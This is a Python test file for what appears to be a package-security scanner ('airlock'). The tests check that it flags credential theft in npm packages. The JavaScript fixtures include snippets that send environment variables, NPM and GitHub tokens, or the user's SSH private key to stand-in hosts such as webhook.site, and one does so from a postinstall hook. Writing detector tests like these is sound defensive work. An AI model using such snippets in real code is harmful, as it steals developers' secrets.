"""The package-level join, and the rules' reading of flows (reach, destination, severity)."""

from __future__ import annotations

from collections.abc import Mapping

from airlock.analysis import analyze
from airlock.contents import read_tarball
from airlock.model import PackageAnalysis
from tests.fakes.tarballs import build_package


def analysis(files: Mapping[str, str | bytes], **manifest: object) -> PackageAnalysis:
    return analyze(read_tarball(build_package("p", "1.0.0", files, **manifest), subject="p"))


def rules(result: PackageAnalysis) -> dict[str, str]:
    return {f.rule: f.severity.value for f in result.findings}


SEND = "module.exports = function send(b) { require('https').request({host: 'a.example.com'}).end(b); };\n"


def test_param_flow_across_files() -> None:
    result = analysis({"index.js": "require('./send')(JSON.stringify(process.env));\n", "send.js": SEND})
    assert rules(result).get("credential-exfiltration") == "critical"


def test_param_flow_through_named_binding() -> None:
    files = {"index.js": "const send = require('./send');\nsend(process.env.NPM_TOKEN);\n", "send.js": SEND}
    assert rules(analysis(files)).get("credential-exfiltration") == "critical"


def test_import_return_flow() -> None:
    files = {
        "index.js": "const c = require('./c');\nfetch('https://a.example.com', {method: 'POST', body: c()});\n",
        "c.js": "module.exports = () => require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa');\n",
    }
    assert rules(analysis(files)).get("credential-exfiltration") == "critical"


def test_no_flow_when_helper_does_not_send() -> None:
    files = {
        "index.js": "require('./log')(JSON.stringify(process.env));\n",
        "log.js": "module.exports = (b) => console.log(b.length);\nfetch('https://a.example.com');\n",
    }
    assert "credential-exfiltration" not in rules(analysis(files))


def test_function_only_flow_is_high() -> None:
    files = {
        "index.js": "module.exports = () => fetch('https://a.example.com', {body: JSON.stringify(process.env)});\n"
    }
    result = rules(analysis(files))
    assert result.get("secret-flow-in-function") == "high"
    assert "credential-exfiltration" not in result


def test_token_to_own_service_is_not_flagged() -> None:
    files = {
        "index.js": "fetch('https://api.github.com/user', {headers: {authorization: process.env.GITHUB_TOKEN}});\n"
    }
    assert not {"credential-exfiltration", "secret-flow-in-function"} & set(rules(analysis(files)))


def test_token_to_other_host_is_flagged() -> None:
    files = {
        "index.js": "fetch('https://gh-stats.example.com/u', {headers: {a: process.env.GITHUB_TOKEN}});\n"
    }
    assert rules(analysis(files)).get("credential-exfiltration") == "critical"


def test_text_co_occurrence_outside_install_is_not_critical() -> None:
    # psl-like: a table of hosts next to unrelated env reads and a fetch.
    files = {
        "index.js": (
            "const hosts = ['webhook.site', 'pastebin.com'];\nconst t = JSON.stringify(process.env).length;\n"
            "module.exports = () => fetch('https://publicsuffix.org/list');\n"
        )
    }
    result = rules(analysis(files))
    assert "credential-exfiltration" not in result
    assert "secrets-with-network" not in result


def test_text_co_occurrence_at_install_stays_critical() -> None:
    files = {"i.js": "const t = process.env.NPM_TOKEN;\nconst u = 'https://webhook.site/abc';\n"}
    result = rules(analysis(files, scripts={"postinstall": "node i.js"}))
    assert result.get("credential-exfiltration") == "critical"
